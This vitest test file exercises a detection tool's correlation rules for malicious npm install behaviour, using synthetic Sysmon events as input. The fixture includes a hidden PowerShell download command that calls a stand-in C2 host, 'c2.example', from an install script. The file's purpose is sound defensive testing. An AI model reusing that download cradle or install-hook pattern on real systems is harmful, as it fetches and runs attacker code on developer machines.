import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../helpers/cli.js';

const RULES = `title: Install script, then a shell, then egress (within 2 minutes on one host)
id: 33333333-0000-4000-8000-000000000001
level: high
correlation:
  type: temporal_ordered
  rules: [script, shell, egress]
  group-by: [Computer]
  timespan: 2m
---
title: Lifecycle script
name: script
logsource: {category: process_creation}
detection: {sel: {InstallPhase|exists: true}, condition: sel}
---
title: Shell in an install
name: shell
logsource: {category: process_creation}
detection: {sel: {InstallPackageManager|exists: true, Image|endswith: '\\powershell.exe'}, condition: sel}
---
title: Egress to a non-registry host
name: egress
logsource: {category: network_connection}
detection: {sel: {InstallPackageManager|exists: true, DestinationIsAllowedRegistry: false}, condition: sel}
`;

const SYSMON = { Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: 'DEV-WS-042' };
const NODE = 'C:\\Program Files\\nodejs\\node.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const proc = (t: string, guid: string, parent: string, Image: string, CommandLine: string, extra = {}) =>
  ({ ...SYSMON, EventID: 1, UtcTime: `2026-11-27 09:${t}`, ProcessGuid: guid, ParentProcessGuid: parent, ProcessId: 1, Image, CommandLine, ...extra });

function telemetry(host = 'DEV-WS-042'): string {
  const events = [
    proc('14:00.000', '{1}', '{0}', NODE, `"${NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install evil-pkg`),
    proc('14:01.000', '{2}', '{1}', CMD, 'C:\\Windows\\system32\\cmd.exe /d /s /c "node install.js"', { CurrentDirectory: 'C:\\app\\node_modules\\evil-pkg\\' }),
    proc('14:02.000', '{3}', '{2}', PS, 'powershell -nop -w hidden -c "iwr http://c2.example/p"'),
    { ...SYSMON, EventID: 22, UtcTime: '2026-11-27 09:14:02.500', ProcessGuid: '{3}', QueryName: 'c2.example', QueryResults: 'type: 5 edge.c2.example;::ffff:203.0.113.7;' },
    { ...SYSMON, EventID: 3, UtcTime: '2026-11-27 09:14:03.000', ProcessGuid: '{3}', Image: PS, Initiated: 'true', DestinationIp: '203.0.113.7', DestinationPort: 443 },
  ];
  return events.map((e) => JSON.stringify({ ...e, Computer: host })).join('\n') + '\n';
}

describe('correlation rules end to end', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sw-corr-'));
  const rules = join(dir, 'corr.yml');
  writeFileSync(rules, RULES);
  const input = join(dir, 'install.ndjson');
  writeFileSync(input, telemetry());

  it('a multi-document rule file: one correlation alert naming the three events, base rules silent', async () => {
    const r = await runCli(['scan', input, '--rules', rules, '--format', 'jsonl']);
    expect(r.stderr).toMatch(/rules: 4 loaded, 0 rejected/);
    expect(r.status).toBe(1);
    const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(alerts).toHaveLength(1);
    const [a] = alerts;
    expect(a.rule).toMatchObject({ id: '33333333-0000-4000-8000-000000000001', level: 'high' });
    expect(a.fields).toMatchObject({ Computer: 'DEV-WS-042', CorrelationType: 'temporal_ordered', CorrelationCount: 3 });
    // Lines 2 (cmd /c: the lifecycle script), 3 (powershell below it), 5 (the connection, named by the DNS answer).
    expect(a.correlated.map((e: { title: string; source: { line: number } }) => [e.title, e.source.line])).toEqual([
      ['Lifecycle script', 2], ['Shell in an install', 3], ['Egress to a non-registry host', 5],
    ]);
    expect(a.correlated[2].time).toBe('2026-11-27T09:14:03.000Z');
    expect(a.source).toMatchObject({ line: 5 });
  });

  it('groups by host: the same steps split over two hosts do not correlate', async () => {
    const lines = telemetry().split('\n');
    const split = join(dir, 'split.ndjson');
    writeFileSync(split, [...lines.slice(0, 3), ...telemetry('OTHER').split('\n').slice(3)].join('\n'));
    const r = await runCli(['scan', split, '--rules', rules, '--format', 'jsonl', '-q']);
    expect(r.stdout).toBe('');
    expect(r.status).toBe(0);
  });

  it('the table lists the correlated events; lint accepts the file', async () => {
    const table = await runCli(['scan', input, '--rules', rules, '--format', 'table', '-q']);
    expect(table.stdout).toMatch(/^HIGH Install script, then a shell, then egress/);
    expect(table.stdout).toMatch(/event\s+2026-11-27 09:14:01\.000 {2}Lifecycle script {2}.*install\.ndjson:2/);
    const lint = await runCli(['rules', 'lint', rules]);
    expect(lint.status).toBe(0);
    expect(lint.stdout).toContain('corr.yml:1: Install script, then a shell, then egress (within 2 minutes on one host) (33333333-0000-4000-8000-000000000001)');
  });
});
